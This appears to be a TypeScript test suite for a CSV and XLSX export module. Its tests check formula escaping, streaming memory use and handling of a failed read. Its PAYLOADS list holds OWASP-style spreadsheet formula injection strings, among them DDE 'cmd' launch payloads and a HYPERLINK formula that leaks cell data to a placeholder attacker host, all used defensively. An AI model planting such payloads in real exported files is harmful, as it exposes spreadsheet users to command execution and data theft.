import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { readSheet } from 'read-excel-file/node';
import yauzl from 'yauzl';
import { csvOf } from '../../src/platform/tables/csv-of.js';
import { everyRow } from '../../src/platform/tables/send-table.js';
import type { Table } from '../../src/platform/tables/table.js';
import { xlsxOf } from '../../src/platform/tables/xlsx-of.js';

/** Written by hand after the ways of OWASP's page on CSV injection. */
const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.invalid?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '","=1+1',
  'Ana; =1+1',
  '"=1+1',
];
const BEGINS_A_FORMULA = /^[=+\-@\t\r\n＝＋－＠]/;
const TABLE: Table<string> = {
  name: 'list',
  columns: [
    { heading: '=Heading', cell: (text) => text },
    { heading: 'n', cell: ({ length }) => length },
  ],
};
async function* from<T>(rows: readonly T[]) {
  yield* rows;
}
const csv = async (rows: readonly string[]): Promise<string[][]> =>
  parse(await buffer(csvOf(TABLE, from(rows))), { bom: true, relax_column_count: true });
const xlsx = async (rows: readonly string[]) => buffer(xlsxOf(TABLE, from(rows)));

describe('lists as files', () => {
  it('hold no cell that a spreadsheet would compute, in CSV, and lose nothing but by an apostrophe before it', async () => {
    const [heading, ...rows] = await csv(PAYLOADS);
    expect(heading).toEqual(["'=Heading", 'n']);
    expect(rows.flat().filter((cell) => BEGINS_A_FORMULA.test(cell))).toEqual([]);
    expect(rows.map(([cell]) => cell?.replace(/^'/, ''))).toEqual(PAYLOADS);
  });

  it('are text in XLSX too, and come back letter by letter in another reader', async () => {
    const file = await xlsx(PAYLOADS);
    const rows = await readSheet(file, { trim: false } as never);
    expect(rows.slice(1).map(([cell]) => cell)).toEqual(PAYLOADS);
    const sheet = await partOf(file, 'xl/worksheets/sheet1.xml');
    expect(sheet).not.toContain('<f');
    expect(sheet.match(/t="inlineStr"/g)).toHaveLength(PAYLOADS.length + 2);
    expect(sheet.match(/s="2"/g)).toHaveLength(PAYLOADS.filter((text) => BEGINS_A_FORMULA.test(text)).length + 1);
  });

  it('whatever a cell holds, no cell begins a formula and both kinds say the same', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(
          fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 }).filter((text) => text.trim() !== ''),
          { minLength: 1, maxLength: 5 },
        ),
        async (texts) => {
          const rows = (await csv(texts)).slice(1);
          expect(rows.flat().filter((cell) => BEGINS_A_FORMULA.test(cell))).toEqual([]);
          const sheet = await partOf(await xlsx(texts), 'xl/worksheets/sheet1.xml');
          expect(sheet).not.toContain('<f');
        },
      ),
      { numRuns: 50 },
    );
  });

  it('are written while they are read: a hundred thousand rows in flat memory', async () => {
    const row = 'Ana '.repeat(20);
    const rows = everyRow<string>(async (last) => (Number(last?.split(' ').at(-1) ?? 0) < 100_000 ? pageAfter(last, row) : []));
    let bytes = 0;
    let most = 0;
    const before = process.memoryUsage().rss;
    for await (const chunk of xlsxOf(TABLE, rows)) {
      bytes += (chunk as Buffer).length;
      most = Math.max(most, process.memoryUsage().rss - before);
    }
    console.log(`  tables: 100 000 rows as XLSX, ${(bytes / 1e6).toFixed(1)} MB, at most ${(most / 1e6).toFixed(0)} MB more memory`);
    expect(bytes).toBeGreaterThan(100_000);
    expect(most).toBeLessThan(200e6);
  });

  it('that cannot be read to their end are cut off, and not taken for whole', async () => {
    async function* failing() {
      yield 'one';
      throw new Error('the database is away');
    }
    await expect(buffer(csvOf(TABLE, failing()))).rejects.toThrow('away');
    await expect(buffer(xlsxOf(TABLE, failing()))).rejects.toThrow('away');
  });
});

function pageAfter(last: string | undefined, row: string): string[] {
  const from = Number(last?.split(' ').at(-1) ?? 0);
  return Array.from({ length: 500 }, (_, at) => `${row} ${from + at + 1}`);
}

function partOf(file: Buffer, part: string): Promise<string> {
  return new Promise((found, failed) => {
    yauzl.fromBuffer(file, { lazyEntries: true }, (error, zip) => {
      if (error) return failed(error);
      zip.on('entry', ({ fileName }: { fileName: string }) => {
        if (fileName !== part) return zip.readEntry();
      });
      zip.on('entry', (entry) => {
        if (entry.fileName === part)
          zip.openReadStream(entry, (_, stream) => stream && buffer(stream).then((bytes) => found(bytes.toString())));
      });
      zip.readEntry();
    });
  });
}
